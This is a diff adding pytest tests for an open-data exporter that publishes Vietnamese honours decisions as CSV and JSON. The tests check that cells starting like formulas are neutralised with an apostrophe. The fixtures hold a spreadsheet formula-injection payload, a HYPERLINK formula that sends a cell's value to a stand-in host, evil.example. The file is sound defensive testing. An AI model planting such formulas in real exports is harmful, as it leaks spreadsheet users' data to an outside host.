@@ -1,0 +1,90 @@
+"""Open-data exports: no cell of a published spreadsheet opens as a formula (issue 8, point 6).
+
+The check refuses such names; the CSV writer neutralises what still arrives
+with a leading apostrophe, as OWASP advises. JSON stays exact.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from bangvang.core.honours import export
+from bangvang.core.honours.model import Decision, HonourEntry, Issuer
+from conftest import Site
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
+FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]
+
+
+def _decision(title: str, names: list[str]) -> Decision:
+    entries = tuple(
+        HonourEntry(stt, "gia_dinh", name, None, None, name, "Xã Thiên Lộc", None, "Tỉnh Hà Tĩnh", stt)
+        for stt, name in enumerate(names, start=1)
+    )
+    return Decision(
+        "honours/a.yaml", "honours/a.yaml", "a", "-1/QĐ", (), dt.date(2024, 1, 2), Issuer(HYPERLINK, "tinh"),
+        "cong_nhan", "2024", title, (), None, False, entries,
+    )  # fmt: skip
+
+
+def _records(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_cells_that_would_open_as_a_formula_start_with_an_apostrophe(tmp_path: Path, start: str) -> None:
+    decision = _decision(start, [start, "Gia đình ông An"])
+    path = tmp_path / "a.csv"
+    assert export.write_csv(path, ((decision, e) for e in decision.entries)) == 2
+    first, second = _records(path)
+    assert first["name"] == first["village"] == first["title"] == "'" + start
+    assert first["decision"] == "'-1/QĐ"
+    assert second["name"] == "Gia đình ông An" and second["title"] == "'" + start
+    assert first["stt"] == "1" and first["anchor"] == "a-stt-1" and first["commune"] == "Xã Thiên Lộc"
+
+
+def test_json_exports_stay_exact(tmp_path: Path) -> None:
+    decision = _decision(HYPERLINK, FORMULA_STARTS)
+    export.write_rows_json(tmp_path / "rows.json", ((decision, e) for e in decision.entries))
+    export.write_decision_json(tmp_path / "a.json", decision, "https://example.org/a/")
+    rows = json.loads((tmp_path / "rows.json").read_text(encoding="utf-8"))
+    document = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
+    assert [r["name"] for r in rows] == [e["name"] for e in document["entries"]] == FORMULA_STARTS
+    assert document["title"] == rows[0]["title"] == HYPERLINK and document["issuer"]["name"] == HYPERLINK
+    assert document["number"] == "-1/QĐ"
+
+
+DECISION = """\
+number: "5/QĐ-UBND"
+signed: 2023-12-18
+issuer: {name: '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")', level: huyen_xa}
+form: cong_nhan
+period: "2023"
+title: '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
+entries_csv: a.csv
+"""
+
+
+def test_published_spreadsheets_hold_no_formula(site: Site) -> None:
+    folder = site.root / "honours"
+    folder.mkdir()
+    (folder / "a.yaml").write_text(DECISION, encoding="utf-8")
+    rows = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh\n"
+    (folder / "a.csv").write_text("stt,kind,name,person,title,village,commune,district,province\n" + rows, "utf-8")
+    build = site.build()
+    assert build.code == 0, build.output
+    data = site.out / "vinh-danh/du-lieu"
+    for path in (data / "a.csv", data / "tinh/tinh-ha-tinh.csv"):
+        (record,) = _records(path)
+        assert record["title"] == "'" + HYPERLINK, path
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in record.values())
+    document = json.loads((data / "a.json").read_text(encoding="utf-8"))
+    assert document["title"] == document["entries"][0]["title"] == document["issuer"]["name"] == HYPERLINK
+    (province_row,) = json.loads((data / "tinh/tinh-ha-tinh.json").read_text(encoding="utf-8"))
+    assert province_row["title"] == HYPERLINK
